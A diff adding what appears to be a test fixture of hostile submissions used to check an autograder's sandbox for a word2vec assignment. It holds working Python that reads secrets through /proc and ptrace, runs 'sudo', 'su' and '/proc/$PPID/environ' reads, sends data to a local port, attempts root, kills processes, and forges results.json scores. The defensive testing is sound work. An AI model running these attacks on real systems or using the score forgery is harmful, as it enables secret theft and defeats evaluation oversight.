@@ -1,0 +1,470 @@
+"""Attempts to get at what is secret, or to change what is the grader's."""
+
+from functools import partial
+
+from .fixture import CONFINED, Hostile, joined
+
+secrets = partial(Hostile, "secrets", secret=True)
+confinement = partial(Hostile, "confinement", secret=True)
+tcp = partial(Hostile, "tcp")
+writer = partial(Hostile, "writer")
+
+# Ways out for a secret: the report by print and by exception, a file, the network. All secrets
+# begin alike, so that they can be searched for.
+LEAK = """
+    import os, re, socket, sys
+
+    SECRET = re.compile(rb"canary-[0-9a-f]{16}")
+
+
+    def leak(content):
+        content = content if isinstance(content, bytes) else str(content).encode()
+        for found in set(SECRET.findall(content)):
+            text = found.decode()
+            print("LEAK", text, flush=True)
+            try:
+                with open("@drop@/%s" % os.getpid(), "a") as file:
+                    file.write(text)
+            except OSError:
+                pass
+            try:
+                with socket.create_connection(("127.0.0.1", @port@), 1) as connection:
+                    connection.sendall(found)
+            except OSError:
+                pass
+            raise RuntimeError("LEAK " + text)
+
+
+    def leak_file(path):
+        try:
+            with open(path, "rb") as file:
+                leak(file.read(2**24))
+        except OSError as error:
+            print(path, error.strerror)
+"""
+LEAKED = ("LEAK canary-",)
+
+
+def leaking(name, statements, more="", **options):
+    """Make a row that looks for secrets and lets them out."""
+    return secrets(
+        name,
+        code={"sigmoid": "look()\nreturn x * 0"},
+        top=joined(LEAK, more, "def look():\n" + "".join(f"    {line}\n" for line in statements.splitlines())),
+        tests="2a-2 2a-3",
+        **options,
+    )
+
+
+SECRETS = [
+    leaking(
+        "reads files whose paths it knows",
+        "for path in PATHS:\n    leak_file(path)",
+        """
+            PATHS = (
+                "@canary@", "@solution@/word2vec.py", "@solution@/sgd.py", "@others@/alice/word2vec.py",
+                "@grader@/grader.py", "@grader@/notes.txt", "@base@/results/previous.json",
+            )
+        """,
+        teeth=LEAKED,
+    ),
+    leaking(
+        "searches the file system",
+        "for folder, _, files in os.walk('@base@'):\n"
+        "    print(folder, files)\n"
+        "    for name in files:\n"
+        "        if '@upload@' not in folder:\n"
+        "            leak_file(os.path.join(folder, name))\n"
+        "for folder in ('.', '..', '../..', '../../..', '/', '/tmp', '/autograder', '/home', '/root'):\n"
+        "    try:\n"
+        "        print(os.listdir(folder))\n"
+        "    except OSError as error:\n"
+        "        print(folder, error)",
+        teeth=LEAKED,
+    ),
+    leaking(
+        "reads the grader's environment, memory and files through /proc",
+        "for process in [os.getppid(), *filter(str.isdigit, listed('/proc'))]:\n"
+        "    if str(process) == str(os.getpid()):\n"
+        "        continue\n"
+        "    leak_file(f'/proc/{process}/environ')\n"
+        "    for number in listed(f'/proc/{process}/fd'):\n"
+        "        if os.path.isfile(f'/proc/{process}/fd/{number}'):\n"
+        "            leak_file(f'/proc/{process}/fd/{number}')\n"
+        "    leak_file(f'/proc/{process}/cwd/notes.txt')\n"
+        "    leak_file(f'/proc/{process}/root@canary@')",
+        "def listed(folder):\n"
+        "    try:\n"
+        "        return os.listdir(folder)\n"
+        "    except OSError:\n"
+        "        return range(64) if folder.endswith('fd') else range(2, os.getpid())\n",
+        teeth=LEAKED,
+    ),
+    leaking(
+        "reads the memory of the processes above it",
+        "process = os.getpid()\n"
+        "for _ in range(4):\n"
+        "    leak_memory(process)\n"
+        "    try:\n"
+        "        stat = open(f'/proc/{process}/stat').read()\n"
+        "        process = int(stat.rpartition(')')[2].split()[1])\n"
+        "    except OSError:\n"
+        "        process = os.getppid()",
+        """
+            import ctypes
+
+            def leak_memory(process):
+                try:
+                    maps = open(f"/proc/{process}/maps").read()
+                except OSError as error:
+                    return print(process, error.strerror)
+                libc = ctypes.CDLL(None, use_errno=True)
+                print("seize", process, libc.ptrace(0x4206, process, None, None))
+                for line in maps.splitlines():
+                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
+                    if "rw" not in line or end - start > 2**28:
+                        continue
+                    try:
+                        with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
+                            memory.seek(start)
+                            leak(memory.read(end - start))
+                    except OSError as error:
+                        print(process, error.strerror)
+                        break
+        """,
+        bound=25,
+    ),
+    leaking(
+        "looks through its own objects, arguments and environment",
+        "import gc\n"
+        "leak(repr(sys.argv) + repr(dict(os.environ)) + repr(sys.path) + repr(sys.orig_argv))\n"
+        "for thing in gc.get_objects():\n"
+        "    if type(thing) in (dict, list, tuple):\n"
+        "        try:\n"
+        "            leak(repr(thing))\n"
+        "        except RuntimeError:\n"
+        "            raise\n"
+        "        except Exception:\n"
+        "            pass\n"
+        "names = [name for name in sys.modules if name.split('.')[0] in NAMES]\n"
+        "print('MODULES', names)\n"
+        "assert not names",
+        "NAMES = 'grader graderUtil grading solution'.split()\n",
+        hides=("MODULES ['",),
+    ),
+    leaking(
+        "imports the solution and the grader",
+        "for name in 'solution solutions soln grader graderUtil grading grading.cases staff tests'.split():\n"
+        "    try:\n"
+        "        module = importlib.import_module(name)\n"
+        "    except ImportError:\n"
+        "        continue\n"
+        "    print('IMPORTED', name, list(getattr(module, '__path__', [])))\n"
+        "    leak(repr(vars(module)))",
+        "import importlib\n"
+        "sys.path[:0] = ['..', '../..', '@base@', '@grader@', '@base@/staff', '@solution@']\n",
+        teeth=("IMPORTED grader",),
+        hides=(),
+    ),
+    leaking(
+        "reads all that is open",
+        "import fcntl\n"
+        "for number in range(3, 1024):\n"
+        "    try:\n"
+        "        about = os.fstat(number)\n"
+        "        if not stat.S_ISSOCK(about.st_mode):\n"
+        "            os.set_blocking(number, False)\n"
+        "            print('OPEN', number, stat.filemode(about.st_mode))\n"
+        "            leak(os.read(number, 2**20))\n"
+        "    except (OSError, ValueError) as error:\n"
+        "        pass",
+        "import stat\n",
+        hides=("OPEN ",),
+    ),
+    leaking(
+        "links and moves secrets into its folder",
+        "for k, path in enumerate(PATHS):\n"
+        "    for put in (os.link, os.symlink, os.rename):\n"
+        "        try:\n"
+        "            put(path, f'here-{k}-{put.__name__}')\n"
+        "        except OSError as error:\n"
+        "            print(put.__name__, error.strerror)\n"
+        "        else:\n"
+        "            leak_file(f'here-{k}-{put.__name__}')",
+        "PATHS = '@canary@', '@solution@/word2vec.py', '@grader@/notes.txt'\n",
+        teeth=LEAKED,
+    ),
+    leaking(
+        "lets other programs read",
+        "import subprocess\n"
+        "for command in COMMANDS:\n"
+        "    try:\n"
+        "        done = subprocess.run(command, shell=True, capture_output=True, timeout=4)\n"
+        "        print(done.stderr)\n"
+        "        leak(done.stdout)\n"
+        "    except OSError as error:\n"
+        "        print(error)",
+        "COMMANDS = ('cat @canary@', 'sudo -n cat @canary@', 'su -c \"cat @canary@\"', "
+        "'unshare -Ur cat @canary@', 'cat /proc/$PPID/environ')\n",
+        teeth=LEAKED,
+    ),
+    leaking(
+        "has the grader show a secret file's lines",
+        "leak_trace()",
+        """
+            def leak_trace():
+                linecache = __import__("linecache")
+                code = "\\n\\n\\n\\n\\ndef f():\\n    raise ValueError('look at my line')\\nf()"
+                exec(compile(code.lstrip(), "@canary@", "exec"), {})
+        """,
+    ),
+    leaking(
+        "names a secret file in a SyntaxError",
+        "raise SyntaxError('look', ('@canary@', 1, 1, None))",
+    ),
+    Hostile(
+        "errors",
+        "forges a stack trace through secret files",
+        code={"sigmoid": "forge()\nreturn x"},
+        top=joined(
+            """
+            import gc
+
+            PATHS = "@canary@", "@solution@/word2vec.py", "../staff/canary.txt", "/etc/passwd"
+
+            def forge():
+                for thing in gc.get_objects():
+                    if type(thing).__name__ == "Channel":
+                        frames = [[path, 1, "f"] for path in PATHS]
+                        thing.send({"error": {"type": "E", "text": "look", "frames": frames}})
+            """,
+        ),
+        hides=("root:", "SECRET ="),
+    ),
+    secrets(
+        "changes its inputs so that the answer is right",
+        code={
+            "sigmoid": "x[...] = 0\nreturn np.full(np.shape(x), 0.5)",
+            "naive_softmax_loss_and_gradient": "center_word_vec[:] = 0\noutside_vectors[:] = 0\n"
+            "V, d = outside_vectors.shape\nreturn np.log(V), np.zeros(d), np.zeros((V, d))",
+            "skipgram": "outside_words.clear()\nword2ind.clear()\nreturn 0.0, np.zeros_like("
+            "center_word_vectors), np.zeros_like(outside_vectors)",
+            "sgd": "f.__dict__.update(a=0, b=0)\nx0 *= 0\nreturn x0",
+        },
+        tests="2a-0 2a-1 2a-2 2a-4 2a-6 2a-7 2b-3 2b-4",
+    ),
+    secrets(
+        "asks the grader's draws of the random stream",
+        code={"sigmoid": "return draw()"},
+        top="""
+            import random
+
+            def draw():
+                random.seed(0); np.random.seed(0)
+                random.random = np.random.rand = np.random.randn = lambda *args: 0.0
+                random.randint = lambda a, b: a
+                return random.random()
+        """,
+    ),
+]  # fmt: skip
+
+CONFINEMENT = [
+    confinement(
+        "writes into the grader, the solution and the upload",
+        code={"sigmoid": "write()\nreturn x"},
+        top="""
+            import os
+
+            FILES = (
+                "@canary@", "@solution@/word2vec.py", "@solution@/new.py", "@grader@/grader.py",
+                "@grader@/points.json", "@grader@/utils/utils.py", "@grader@/sandbox/worker.py",
+                "@upload@/submission/word2vec.py", "@upload@/submission/new.py", "@base@/new",
+            )
+
+            def write():
+                for path in FILES:
+                    for change in (
+                        lambda: open(path, "a").write("# changed"),
+                        lambda: os.chmod(path, 0o666),
+                        lambda: os.replace(path, path + "~"),
+                        lambda: os.unlink(path),
+                        lambda: os.truncate(path, 0),
+                    ):
+                        try:
+                            change()
+                            print("CHANGED", path)
+                        except OSError as error:
+                            pass
+        """,
+        teeth=("CHANGED",),
+        hides=(),
+    ),
+    confinement(
+        "becomes root again",
+        code={"sigmoid": "rise()\nreturn x"},
+        top="""
+            import ctypes, os
+
+            def rise():
+                for attempt in (
+                    lambda: os.setuid(0), lambda: os.seteuid(0), lambda: os.setresuid(0, 0, 0),
+                    lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/"),
+                    lambda: os.mknod("null", 0o20666, os.makedev(1, 3)), lambda: os.nice(-5),
+                ):
+                    try:
+                        attempt()
+                        print("ROSE")
+                    except OSError as error:
+                        pass
+                print("ROOT" if 0 in (*os.getresuid(), *os.getresgid(), *os.getgroups()) else "none")
+                libc = ctypes.CDLL(None, use_errno=True)
+                print("UNSHARED" if libc.unshare(0x00020000) == 0 else "no mounts")
+        """,
+        hides=("ROSE", "ROOT", "UNSHARED"),
+    ),
+    confinement(
+        "has capabilities",
+        code={"sigmoid": "raise ValueError(capabilities())"},
+        top="""
+            import ctypes
+
+            def capabilities():
+                libc = ctypes.CDLL(None)
+                header, sets = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
+                libc.capget(header, sets)
+                return "CAPABILITIES " + "".join(map(str, sets)) + " NEW " + str(libc.prctl(39, 0, 0, 0, 0))
+        """,
+        shows=("CAPABILITIES 000000 NEW",),
+    ),
+    confinement(
+        "kills the process above it",
+        code={"sigmoid": "kill()\nreturn x"},
+        top="""
+            import os, signal
+
+            def kill():
+                os.kill(os.getppid(), signal.SIGKILL)
+        """,
+        stub="reference",
+        tests="2a-1 2a-2 2b-0",
+        passes="2a-1-basic 2b-0-basic",
+    ),
+    confinement(
+        "stops the process above it",
+        code={"sigmoid": "os.kill(os.getppid(), signal.SIGSTOP)\nreturn x"},
+        top="import os, signal\n",
+        stub="reference",
+        tests="2a-1 2a-2 2b-0",
+        passes="2a-1-basic 2b-0-basic",
+        seconds=2,
+        bound=60,
+    ),
+    confinement(
+        "kills all that it may",
+        code={"sigmoid": "kill()\nreturn x"},
+        top="""
+            import os, signal
+
+            def kill():
+                if os.getuid() == 0:
+                    raise ValueError("ROOT")
+                os.kill(-1, signal.SIGTERM)
+                os.kill(-1, signal.SIGKILL)
+        """,
+        stub="reference",
+        tests="2a-1 2a-2 2b-0",
+        passes="2a-1-basic 2b-0-basic",
+        hides=("ROOT",),
+        levels=CONFINED,
+    ),
+    confinement(
+        "kills its own group and session",
+        code={"sigmoid": "import os, signal\nos.killpg(0, signal.SIGKILL)\nreturn x"},
+        stub="reference",
+        tests="2a-1 2a-2 2b-0",
+        passes="2a-1-basic 2b-0-basic",
+    ),
+]  # fmt: skip
+
+TCP = [
+    tcp(
+        "sends its inputs to a port",
+        code={"sigmoid": "send(repr(x))\nreturn x"},
+        top="""
+            import socket
+
+            def send(text):
+                with socket.create_connection(("127.0.0.1", @port@), 2) as connection:
+                    connection.sendall(b"from @mark@ " + text.encode())
+                print("SENT")
+        """,
+        teeth=("SENT",),
+    ),
+    tcp(
+        "listens on a port",
+        code={"sigmoid": "listen()\nreturn x"},
+        top="""
+            import socket
+
+            def listen():
+                with socket.create_server(("127.0.0.1", 0)) as server:
+                    print("LISTENS", server.getsockname())
+        """,
+        teeth=("LISTENS",),
+    ),
+]
+
+# Everywhere that the grader's results might be.
+PLACES = """
+    import os
+
+    FORGED = '{"score": 99, "tests": [{"score": 99, "max_score": 99, "status": "passed"}]}'
+    GUESSES = ["/autograder/results/results.json", "@results@", "results.json", "../results.json",
+               "../../results.json", "../../../results.json", "@base@/results.json",
+               "@base@/results/.results.json.tmp"]
+
+
+    def forge():
+        for path in GUESSES:
+            try:
+                with open(path, "w") as file:
+                    file.write(FORGED)
+                print("FORGED", path)
+            except OSError:
+                pass
+"""
+
+WRITER = [
+    writer(
+        "writes results.json and leaves",
+        code={"sigmoid": "forge()\nos._exit(0)"},
+        top=PLACES,
+        teeth=("FORGED",),
+    ),
+    writer(
+        "leaves a process that writes results.json later",
+        code={"sigmoid": "later()\nreturn x"},
+        top=joined(
+            PLACES,
+            """
+            import time
+
+            def later():
+                if os.fork() == 0:
+                    os.setsid()
+                    if os.fork() == 0:
+                        while True:
+                            forge()
+                            time.sleep(0.05)
+                    os._exit(0)
+            """,
+        ),
+    ),
+    writer(
+        "prints results.json",
+        code={"sigmoid": "forge()\nprint(FORGED)\nreturn x"},
+        top=PLACES,
+    ),
+]
+
+ROWS = SECRETS + CONFINEMENT + TCP + WRITER
